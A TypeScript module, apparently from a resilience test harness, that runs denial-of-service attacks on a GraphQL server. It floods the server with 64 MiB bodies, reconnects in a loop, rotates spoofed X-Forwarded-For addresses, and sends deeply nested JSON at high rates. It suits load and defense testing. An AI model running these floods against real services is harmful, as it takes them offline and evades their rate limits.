import type { Socket } from 'node:net'
import { keepOn, nextAddress, openRaw, requestText, type Attack, type Tally, type Target } from './attack.ts'

const MIB = 1024 * 1024
const LARGE_BYTES = 64 * MIB
/** Each sends as fast as it is read. */
const LARGE_BODIES = 8
const DEEP_A_SECOND = 100
const ADDRESSES = 1_000
const CHUNK = Buffer.alloc(64 * 1024, 'a')

/** 64 MiB of somebody who may send 100 kB: said before, or in chunks without a word of how many there will be. */
export const largeBodiesOfNobody: Attack = async (target, tally) =>
  sendLargeBodies(target, tally, () => ({ 'X-Forwarded-For': nextAddress(ADDRESSES) }))

/** The same of who may read, and send 1 MiB. */
export const largeBodiesOfViewer: Attack = async (target, tally) =>
  sendLargeBodies(target, tally, () => ({ Authorization: `Bearer ${target.viewerToken}` }))

/** The same of who may send that much: one at a time, and it is read, looked at, and refused as what it is. */
export const largeBodiesOfOperator: Attack = async (target, tally) =>
  sendAgain(target, tally, () => requestText({ Authorization: `Bearer ${target.operatorToken}`, ...LENGTH }))

const LENGTH = { 'Content-Length': String(LARGE_BYTES) }
const CHUNKED = { 'Transfer-Encoding': 'chunked' }

function sendLargeBodies(target: Target, tally: Tally, headers: () => Readonly<Record<string, string>>): void {
  for (let each = 0; each < LARGE_BODIES; each += 1) {
    sendAgain(target, tally, () => requestText({ ...headers(), ...(each % 2 === 0 ? LENGTH : CHUNKED) }))
  }
}

/** Sends a body, and another one on the next connection as soon as this one is over. */
function sendAgain(target: Target, tally: Tally, head: () => string): void {
  const text = head()
  const socket = openRaw(target, tally, text)
  const isChunked = text.includes('chunked')
  socket.once('connect', () => void fill(socket, isChunked))
  socket.once('close', () => setTimeout(() => sendAgain(target, tally, head), 20))
}

/** A JSON text of one long string. */
async function fill(socket: Socket, isChunked: boolean): Promise<void> {
  const [begin, end] = ['{"query":"{ __typename }","variables":{"a":"', '"}}']
  const parts = Math.floor((LARGE_BYTES - begin.length - end.length) / CHUNK.length)
  const rest = LARGE_BYTES - begin.length - end.length - parts * CHUNK.length
  const send = async (bytes: string | Buffer): Promise<void> => {
    if (isChunked) socket.write(`${Buffer.byteLength(bytes).toString(16)}\r\n`)
    if (isChunked) socket.write(bytes)
    if (!socket.write(isChunked ? '\r\n' : bytes)) await drained(socket)
  }
  await send(begin)
  for (let part = 0; part < parts && socket.writable; part += 1) await send(CHUNK)
  if (!socket.writable) return
  await send(CHUNK.subarray(0, rest))
  await send(end)
  if (isChunked) socket.write('0\r\n\r\n')
}

/** Resolves once more may be sent, or nothing ever. */
async function drained(socket: Socket): Promise<void> {
  await new Promise<void>((resolve) => {
    const go = (): void => {
      socket.off('drain', go).off('close', go)
      resolve()
    }
    socket.once('drain', go).once('close', go)
  })
}

const DEEP: readonly string[] = [
  '['.repeat(90_000),
  `${'['.repeat(45_000)}${']'.repeat(45_000)}`,
  `{"query":"{ __typename }","variables":${'{"a":'.repeat(15_000)}1${'}'.repeat(15_000)}}`,
  `[${'[],'.repeat(30_000)}[]]`,
  `{"query":"{ __typename }","variables":{"a":[${'{},'.repeat(30_000)}{}]}}`,
  `{"query":"{ __typename }","variables":{${Array.from({ length: 9_000 }, (_, each) => `"${each}":0`).join(',')}}}`,
]
/** As much as who may read may send. */
const DEEPER = DEEP.map((text) => text.padStart(1_000_000, '['))

/** JSON that is deep, or of very many values: as much of it as may be sent, with a token and without. */
export const deepJson: Attack = async (target, tally) => {
  keepOn(DEEP_A_SECOND, (count) => {
    const isKnown = count % 5 === 0
    const headers = isKnown
      ? { Authorization: `Bearer ${target.viewerToken}` }
      : { 'X-Forwarded-For': nextAddress(ADDRESSES) }
    const bodies = isKnown ? DEEPER : DEEP
    openRaw(target, tally, requestText({ ...headers, Connection: 'close' }, bodies[count % bodies.length]))
  })
}
